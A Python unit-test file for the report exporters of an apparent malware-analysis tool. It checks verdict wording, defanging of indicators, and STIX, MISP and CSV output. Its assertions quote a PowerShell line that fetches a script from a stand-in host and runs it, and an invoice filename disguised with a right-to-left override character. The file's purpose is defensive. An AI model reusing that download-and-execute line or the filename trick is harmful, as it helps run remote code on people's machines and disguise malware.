"""What was judged, on every page that shows it: nothing can be clicked, nothing unseen stays unseen."""

import csv
import io
import json

import pytest
import stix2  # type: ignore[import-untyped]
from msgspec.structs import replace

from tests.unit.export.judgedreport import FINE, HOSTILE, INNER, JUDGED, URL
from vedette.core.executables import Call
from vedette.core.nouns import Report
from vedette.core.verdicts import Verdict
from vedette.export import html, indicator_table, markdown, misp, stix, terminal
from vedette.export.judged import answer, built, defanged, indicators, peeled
from vedette.export.show import ShowOptions


def page(**show: object) -> str:
    return terminal.render(JUDGED, {}, colour=False, width=100, show=ShowOptions(**show))  # type: ignore[arg-type]


def test_the_verdict_comes_first_with_why_and_what_would_change_it() -> None:
    text = page()
    assert text.startswith("‼ MALICIOUS: invoice<U+202E>1sp.ps1\n")
    assert text.index("Why") < text.index("What would change our mind") < text.index("Downloads a program")
    assert "Also looked at: 1\n  ○ benign      tool  ELF executable" in text


def test_a_behaviour_says_what_else_it_could_be() -> None:
    text = page()
    assert "Could be innocent: an installer of a well-known tool" in text
    assert "What to do: Do not run it." in text
    assert "What shows it" in text


def test_layers_stand_side_by_side_and_long_ones_are_cut() -> None:
    text = page()
    assert "Layer invoice.ps1~1" in text
    assert "out of invoice.ps1 by base64, UTF-16; PowerShell script, 200 bytes" in text
    row = next(line for line in text.splitlines() if "powershell -enc" in line)
    assert "│ iwr http://bad.invalid/a|b | iex" in row
    assert "… 21 more lines" in text


def test_an_executable_in_words() -> None:
    text = page()
    assert "Executable tool: ELF program, x86-64, 3 functions" in text
    assert "Protected by: NX" in text
    assert "RELRO: partly. the table of functions can be written" in text
    assert '0x1004 in main system("ls") runs a shell' in text
    assert "zlib 1.2.8 (known: CVE-2018-25032)" in text


def test_indicators_are_defanged_and_each_is_there_once() -> None:
    text = page()
    assert text.count("hxxp://bad[.]invalid/a|b") == 1
    assert "who[@]bad[.]invalid" in text
    assert len(indicators(JUDGED)) == len(JUDGED.indicators) - 1


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("https://a.invalid/x.y", "hxxps://a[.]invalid/x.y"),
        ("ftp://a.invalid", "ftp://a[.]invalid"),
        ("198.51.100.7", "198[.]51[.]100[.]7"),
    ],
)
def test_no_program_makes_a_link_of_a_defanged_address(value: str, shown: str) -> None:
    assert defanged(value) == shown


def test_the_answer_counts_verdicts_the_gravest_first() -> None:
    assert answer(JUDGED) == "1 malicious, 1 benign"
    assert answer(replace(JUDGED, judgements=(FINE,))) == "Benign"
    assert "nothing can be said" in answer(replace(JUDGED, judgements=()))


def test_a_single_benign_thing_is_told_in_full() -> None:
    report = replace(JUDGED, judgements=(FINE,), findings=(), layers=(), executables=(), indicators=())
    text = terminal.render(report, {}, colour=False, width=100)
    assert "○ BENIGN: tool" in text
    assert "It copies files." in text


def test_the_page_shows_all_of_it_and_links_nothing() -> None:
    text = html.render(JUDGED, {})
    assert "What we think of it" in text
    assert "hxxp://bad[.]invalid" in text
    assert 'href="http' not in text
    assert "\u202e" not in text
    for words in ("What lay under encodings", "Executables", "Look for these elsewhere", "Could be innocent"):
        assert words in text


def test_markdown_shows_all_of_it_and_no_bar_breaks_its_table() -> None:
    text = markdown.render(JUDGED, {})
    row = next(line for line in text.splitlines() if line.startswith("| url"))
    assert row.replace(r"\|", "").count("|") == 5
    assert "### Malicious: `invoice<U+202E>1sp.ps1`" in text
    assert "**Could be innocent:**" in text


def test_stix_patterns_are_those_of_the_standard() -> None:
    bundle = stix2.parse(stix.render(JUDGED).decode(), allow_custom=False)
    patterns = {
        one.pattern for one in bundle.objects if one.type == "indicator" and one.pattern_type == "stix"
    }
    assert f"[url:value = '{URL}']" in patterns
    assert r"[mutex:name = 'Global\\it\'s']" in patterns
    assert "[ipv6-addr:value = '2001:db8::7']" in patterns
    assert len(patterns) == 8, "each once; STIX has no word for a wallet"


def test_a_misp_event_has_its_own_types() -> None:
    event = json.loads(misp.render(JUDGED))["Event"]
    assert event["threat_level_id"] == "1"
    types = {one["value"]: one["type"] for one in event["Attribute"]}
    assert types[URL] == "url"
    assert types["ab" * 32] == "sha256"
    assert types["bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"] == "btc"
    assert event["published"] is False
    assert misp.render(JUDGED) == misp.render(JUDGED)


def test_the_table_of_indicators_is_for_machines() -> None:
    rows = list(csv.DictReader(io.StringIO(indicator_table.render(JUDGED).decode())))
    assert rows[0] == {
        "type": "domain",
        "value": "bad.invalid",
        "confidence": "likely",
        "artefact": INNER,
        "name": "invoice.ps1~1",
        "offset": "4",
        "context": "downloads from it",
    }


def test_many_are_told_in_full_up_to_a_number() -> None:
    many = tuple(replace(HOSTILE, name=f"n{number}", verdict=Verdict.SUSPICIOUS) for number in range(30))
    text = terminal.render(replace(JUDGED, judgements=many), {}, colour=False, width=100)
    assert text.count("SUSPICIOUS") == 10
    assert "Also looked at: 20" in text


FINE_ALONE = replace(JUDGED, judgements=(FINE,), findings=(), layers=(), executables=())


def told(report: Report) -> str:
    return markdown.render(report, {})


def test_what_to_do_is_said_and_not_where_nothing_is_to_be_done() -> None:
    for made in (told(JUDGED), page(), html.render(JUDGED, {})):
        assert "What to do" in made
        assert "network, leave it" in " ".join(made.split())
    assert "What to do" not in told(FINE_ALONE)


def test_what_stands_in_a_harmless_thing_is_not_to_be_looked_for() -> None:
    assert "Names and addresses in it" in told(FINE_ALONE)
    assert "Look for these elsewhere" in told(JUDGED)
    assert HOSTILE in JUDGED.judgements


def test_a_line_nobody_reads_is_clipped_and_calls_alike_are_counted() -> None:
    (clipped,) = peeled(replace(JUDGED.layers[0], after="A" * 1000)).after
    assert clipped.endswith("760 more characters")
    calls = tuple(Call(address=at, function="f", callee="printf", says="prints") for at in range(30))
    made = built(replace(JUDGED.executables[0], calls=calls))
    assert len(made.calls) == 4
    assert made.more == "26 more: prints"
